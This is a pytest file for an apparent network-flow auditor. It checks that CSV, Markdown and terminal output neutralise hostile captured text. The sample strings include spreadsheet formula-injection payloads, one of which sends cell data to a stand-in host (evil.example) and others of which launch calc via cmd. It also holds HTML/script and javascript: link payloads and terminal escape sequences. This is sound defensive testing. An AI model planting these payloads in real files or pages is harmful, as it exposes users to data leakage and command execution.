"""Captured text is data, never markup or commands: a process name, a path, a user agent or a
marker note made of spreadsheet formulas, HTML, Markdown links or terminal escapes comes out of
the CSV and Markdown reports and the CLI tables as inert text."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from auditor.paths import DataDir
from auditor.records import FlowRecord
from auditor.report import MarkerInfo, build_report, render_csv, render_markdown
from tests.export.samples import make_records
from tests.helpers.capture import TEST_PASSPHRASE, environment
from tests.helpers.cli import main_in_process

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
MARKUP = '<img src="file:///etc/passwd"><script>alert(1)</script>'
LINK = "[click me](javascript:alert(1)) ![x](http://tracker.example/p.gif)"
TERMINAL = "\x1b[31mred\x1b[0m\x1b]0;title\x07\nforged row\r\u202eevil"


def _hostile(records: list[FlowRecord]) -> list[FlowRecord]:
    texts = [TERMINAL, MARKUP, LINK, *FORMULAS]
    for i, record in enumerate(records):
        text = texts[i % len(texts)]
        record.process = dataclasses.replace(record.process)  # the samples share one
        record.process.name = text
        record.process.app = texts[(i + 1) % len(texts)]
        if record.request is not None:
            record.request.path = "/" + texts[(i + 2) % len(texts)]
            record.request.url = f"https://{record.request.host}{record.request.path}"
            record.request.headers.append(("User-Agent", texts[(i + 3) % len(texts)]))
    return records


@pytest.fixture
def report_records() -> list[FlowRecord]:
    return _hostile(make_records() + make_records("s2"))


def test_csv_cells_cannot_become_formulas(report_records: list[FlowRecord]) -> None:
    markers = [MarkerInfo(1_767_000_010.0, "muted", f, "s1") for f in FORMULAS]
    text = render_csv(build_report(report_records, markers=markers))
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    hostile = [c for c in cells if any(f.strip("\t\r")[:6] in c for f in FORMULAS)]
    assert len(hostile) >= len(FORMULAS)
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert "'=HYPERLINK" in text  # kept, made inert


def test_markdown_escapes_html_and_links(report_records: list[FlowRecord]) -> None:
    markers = [MarkerInfo(1_767_000_010.0, "note", MARKUP + LINK, "s1")]
    md = render_markdown(build_report(report_records, markers=markers, title=f"Audit {MARKUP}"))
    # Inside code spans nothing is markup; everywhere else no tag and no link may be left.
    prose = re.sub(r"(`+)(?:(?!\1).)*\1", "", md)
    assert "<img" not in prose and "<script" not in prose
    assert "](javascript:" not in prose and "](http://tracker" not in prose
    assert "&lt;script&gt;" in md or "`<script>" in md  # shown, as text
    # One table row stays one line: a newline in captured text cannot start a new row.
    for line in md.splitlines():
        if line.startswith("|"):
            assert line.endswith("|"), line


@pytest.fixture
def hostile_store(tmp_path: Path) -> Iterator[Path]:
    from auditor.store import open_store

    root = tmp_path / "data"
    with environment({"AUDITOR_DATA_DIR": str(root), "AUDITOR_PASSPHRASE": TEST_PASSPHRASE}):
        store = open_store(DataDir(root))
        try:
            store.ensure_session("s1", source="capture", modes=["regular"])
            store.add_flows(_hostile(make_records()))
        finally:
            store.close()
        yield root


def test_cli_tables_strip_escapes_and_keep_one_row_per_flow(hostile_store: Path) -> None:
    with environment(
        {"AUDITOR_DATA_DIR": str(hostile_store), "AUDITOR_PASSPHRASE": TEST_PASSPHRASE}
    ):
        code, out, err = main_in_process(["flows", "--no-redact"])
    assert code == 0, err
    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out and "\x07" not in out
    lines = out.splitlines()
    assert len(lines) == 1 + len(make_records())  # the heading and one line per flow
    assert "forged row" in out  # the text is still there, inert
